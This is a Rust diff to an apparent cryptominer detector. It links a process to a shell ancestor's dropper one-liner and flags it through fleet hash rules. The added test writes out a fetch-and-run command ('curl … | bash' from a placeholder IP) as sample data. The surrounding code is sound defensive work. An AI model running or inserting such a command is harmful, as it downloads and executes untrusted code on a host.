@@ -187,7 +187,9 @@ impl Detector {
         let window = prev.map(|p| cur.at.saturating_duration_since(p.at).as_secs_f64()).unwrap_or(0.0);
         let mut findings = Vec::new();
         let me = std::process::id();
-        let by_pid: HashMap<u32, &Proc> = cur.procs.values().map(|p| (p.key.pid, p)).collect();
+        // ancestors: the listed processes, and those only exec events saw
+        // (a dropper's shell gone before the pass)
+        let by_pid: HashMap<u32, &Proc> = hidden.values().chain(cur.procs.values()).map(|p| (p.key.pid, p)).collect();
         for (key, p) in cur.procs.iter().chain(hidden.iter()) {
             // kernel threads are never miners; rigwatch itself carries protocol strings
             if p.kernel_thread || key.pid == me {
@@ -195,6 +197,20 @@ impl Detector {
             }
             let mut ev = self.own_evidence(p);
             ev.extend(self.inherited_base64(p, &by_pid));
+            let oneliner = ancestor_oneliner(p, &by_pid);
+            if let Some((ppid, ol)) = &oneliner {
+                if let Some(rule) = self.sig.binary_hash(&rigwatch_signatures::oneliner::sha256(ol)) {
+                    ev.push(Evidence::from_rule(
+                        EvidenceKind::CommandLine {
+                            matched: format!("started by the one-liner of ancestor pid {ppid}: {}", clip_chars(ol, 160)),
+                            base64: false,
+                            pool_url: false,
+                        },
+                        &rule.id,
+                        rule.severity,
+                    ));
+                }
+            }
             let measured = prev.and_then(|pr| cur.cores_since(pr, key));
             if let Some(cores) = measured {
                 if cores >= self.cfg.cpu_cores_threshold {
@@ -236,6 +252,7 @@ impl Detector {
                 continue;
             }
             let mut info = process_info(p);
+            info.parent_oneliner = oneliner.map(|(_, ol)| ol);
             info.sha256 = hashes.get(key).map(|h| h.iter().map(|b| format!("{b:02x}")).collect());
             if let Some(pod) = info.pod_uid.as_deref().and_then(|u| self.pods.lookup(u)) {
                 info.namespace = Some(pod.namespace);
@@ -471,6 +488,27 @@ pub fn dedup(ev: Vec<Evidence>) -> Vec<Evidence> {
     out
 }
 
+/// The dropper one-liner of the nearest shell ancestor (3 levels up at
+/// most), with that ancestor's pid ([`rigwatch_signatures::oneliner`]).
+fn ancestor_oneliner(p: &Proc, by_pid: &HashMap<u32, &Proc>) -> Option<(u32, String)> {
+    let mut ppid = p.ppid;
+    for _ in 0..3 {
+        let parent = by_pid.get(&ppid).copied().filter(|_| ppid > 1)?;
+        if let Some(s) = rigwatch_signatures::oneliner::of_argv(&parent.fixed.argv) {
+            return Some((ppid, s));
+        }
+        ppid = parent.ppid;
+    }
+    None
+}
+
+fn clip_chars(s: &str, n: usize) -> String {
+    match s.char_indices().nth(n) {
+        Some((i, _)) => format!("{}…", &s[..i]),
+        None => s.to_string(),
+    }
+}
+
 fn round2(x: f64) -> f64 {
     (x * 100.0).round() / 100.0
 }
@@ -496,6 +534,7 @@ pub fn process_info(p: &Proc) -> ProcessInfo {
         pod: None,
         systemd_unit,
         sha256: None,
+        parent_oneliner: None,
     }
 }
 
@@ -714,6 +753,61 @@ mod tests {
             .evidence
             .iter()
             .any(|e| matches!(&e.detail, EvidenceKind::Throttled { how } if how.contains("nice 19") && how.contains("SCHED_IDLE"))));
+    }
+
+    #[test]
+    fn a_dropper_one_liner_the_fleet_knows_marks_what_it_started() {
+        use rigwatch_signatures::Severity;
+        let t0 = std::time::Instant::now();
+        let prev = snap(t0, 0, 'R');
+        let mut cur = snap(t0 + std::time::Duration::from_secs(10), 900, 'R');
+        // the miner (renamed kworker, busy) under `sh -c 'curl … | bash'` (pid 77)
+        cur.procs.values_mut().for_each(|p| p.ppid = 77);
+        let mut shell = cur.procs.values().next().unwrap().clone();
+        shell.key = ProcKey { pid: 77, start_time: 5 };
+        shell.ppid = 1;
+        shell.comm = "sh".into();
+        shell.cpu_ticks = 0;
+        shell.nice = 0;
+        shell.policy = 0;
+        let line = "curl -fsSL http://u:pw@203.0.113.9/i.sh | bash";
+        shell.fixed = std::sync::Arc::new(crate::host::process::ProcStatic {
+            comm: "sh".into(),
+            argv: vec!["/bin/sh".into(), "-c".into(), line.into()],
+            argv_read: true,
+            exe: Some("/usr/bin/dash".into()),
+            ..Default::default()
+        });
+        cur.procs.insert(shell.key, shell);
+        let redacted = "curl -fsSL http://203.0.113.9/i.sh | bash";
+        let sha = rigwatch_signatures::oneliner::sha256_hex(redacted);
+        let fleet = format!(
+            "[meta]\nsource = \"fleet\"\n[[rule]]\nid = \"fleet.ol1\"\nkind = \"binary_hash\"\nseverity = \"likely\"\n\
+             description = \"fleet: taught by node-a/f1\"\nsha256 = [\"{sha}\"]\n[rule.examples]\nhit = [\"{sha}\"]\n"
+        );
+        let plain = std::sync::Arc::new(rigwatch_signatures::load::load(&[], true).signatures);
+        let mut d = Detector::new(plain, DetectorConfig::default(), "h");
+        let before = d.assess(Some(&prev), &cur, &[], 0);
+        let f = before.iter().find(|f| f.pid == Some(4242)).unwrap();
+        assert_eq!(f.severity, Severity::Suspicious, "{f:?}");
+        assert_eq!(
+            f.process.parent_oneliner.as_deref(),
+            Some(redacted),
+            "sent for the collector, redacted"
+        );
+        let loaded = rigwatch_signatures::load::load_with(&[], true, &[("fleet-indicators.toml".into(), fleet)]);
+        assert!(loaded.errors.is_empty(), "{:?}", loaded.errors);
+        let mut d = Detector::new(std::sync::Arc::new(loaded.signatures), DetectorConfig::default(), "h");
+        let after = d.assess(Some(&prev), &cur, &[], 0);
+        let f = after.iter().find(|f| f.pid == Some(4242)).unwrap();
+        let e = f
+            .evidence
+            .iter()
+            .find(|e| e.rule.as_deref() == Some("fleet.ol1"))
+            .unwrap_or_else(|| panic!("{f:?}"));
+        assert_eq!(e.weight, Weight::Likely);
+        assert!(e.summary().contains("one-liner of ancestor pid 77"), "{}", e.summary());
+        assert_eq!(f.severity, Severity::Likely, "{f:?}");
     }
 
     #[test]
